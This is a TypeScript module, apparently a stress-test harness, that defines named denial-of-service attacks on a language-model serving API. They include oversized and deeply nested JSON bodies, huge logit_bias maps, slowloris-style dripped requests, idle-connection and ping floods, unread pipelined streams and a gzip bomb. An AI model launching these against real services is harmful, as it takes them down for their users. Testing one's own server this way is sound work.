import { gzipSync } from "node:zlib";
import { hold, holdWatch, keepDoing, post } from "./transport.ts";
import type { AttackTarget } from "./transport.ts";

type Attack = (target: AttackTarget) => Promise<unknown>;

const completions = "/v1/completions";
const prompt = "7-2*3+4=";

/** A server's usual `--max-body-mib`, and a little less. */
const largestBody = 8 * 2 ** 20 - 64;

const numbers = (count: number): number[] => Array.from({ length: count }, (_, index) => index % 10);

const members = (count: number, name: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => `"${name(index)}":1`).join(",");

/** Sends one body again and again, two at once: what is hard about it is its shape. */
const bodies =
  (path: string, write: (target: AttackTarget) => string): Attack =>
  (target) => {
    const body = write(target);
    return keepDoing(target, { atOnce: 2, pauseMs: 200 }, () => post(target, path, body));
  };

/** An endless chain, every step of which is told. */
const watchedChain = (id: number): string =>
  JSON.stringify({
    id: String(id),
    prompt,
    sampler: "power",
    mcmc_steps: 1_000,
    proposal_temperature: 1,
    n: 8,
  });

/** By name, at rates that the attacker's processor can bear; each goes on until its target's signal. */
export const attacks: Readonly<Record<string, Attack>> = {
  "huge answers": bodies(completions, ({ context }) =>
    JSON.stringify({
      prompt: numbers(Math.min(8_000, context - 2)),
      n: 128,
      echo: true,
      logprobs: 100,
      max_tokens: 1,
    }),
  ),
  "20 watching sockets": (target) =>
    keepDoing(target, { atOnce: 20, pauseMs: 200 }, () =>
      holdWatch(target, (socket) => {
        socket.send(watchedChain(0));
        let next = 1;
        socket.on("message", (data: Buffer) => {
          if (data.includes('"type":"done"') || data.includes('"type":"error"'))
            setTimeout(() => {
              socket.send(watchedChain(next++));
            }, 100);
        });
      }),
    ),
  "8 MiB to /tokenize": bodies("/tokenize", () => `{"prompt":"${"1".repeat(largestBody - 13)}"}`),
  "8 MiB of escapes to /tokenize": bodies(
    "/tokenize",
    () => `{"prompt":"${String.raw`\u0031`.repeat((largestBody - 13) / 6)}"}`,
  ),
  "10^6 ids": bodies(completions, () => `{"prompt":[${numbers(1_000_000).join()}]}`),
  "10^6 strings": bodies(completions, () => JSON.stringify({ prompt: numbers(1_000_000).map(String) })),
  "5·10^5 logit_bias keys": bodies(
    completions,
    () => `{"prompt":"${prompt}","logit_bias":{${members(500_000, String)}}}`,
  ),
  "6·10^5 unknown keys": bodies(
    completions,
    () => `{"prompt":"${prompt}",${members(600_000, (index) => `k${index}`)}}`,
  ),
  "suffix 5,000 deep": bodies(
    completions,
    () => `{"prompt":"${prompt}","suffix":${"[".repeat(5_000)}${"]".repeat(5_000)}}`,
  ),
  "dripped bodies": (target) =>
    keepDoing(target, { atOnce: 200, pauseMs: 100 }, () =>
      hold(target, (socket) => {
        socket.write(
          `POST ${completions} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{`,
        );
        const drip = setInterval(() => socket.write(" "), 500);
        socket.on("close", () => {
          clearInterval(drip);
        });
      }),
    ),
  "2,000 idle connections": (target) =>
    keepDoing(target, { atOnce: 2_000, pauseMs: 1_000 }, () => hold(target, () => undefined)),
  "ping floods": (target) =>
    keepDoing(target, { atOnce: 10, pauseMs: 200 }, () =>
      holdWatch(target, (socket) => {
        const flood = setInterval(() => {
          for (let ping = 0; ping < 20; ping++) socket.ping("x".repeat(100));
        }, 10);
        socket.on("close", () => {
          clearInterval(flood);
        });
      }),
    ),
  "silent readers": (target) =>
    keepDoing(target, { atOnce: 50, pauseMs: 100 }, () =>
      hold(target, (socket) => {
        socket.pause();
        const body = JSON.stringify({
          prompt,
          n: 64,
          stream: true,
          logprobs: 5,
          ignore_eos: true,
          max_tokens: 200,
        });
        const head = `POST ${completions} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n`;
        // Further requests wait behind the first, whose answer is never read.
        socket.write(`${head}content-length: ${body.length}\r\n\r\n${body}`.repeat(4));
      }),
    ),
  "gzip bombs": (target) => {
    const bomb = gzipSync(Buffer.alloc(2 ** 28, " "), { level: 9 });
    return keepDoing(target, { atOnce: 4, pauseMs: 100 }, () =>
      post(target, completions, bomb, { "content-encoding": "gzip" }),
    );
  },
};
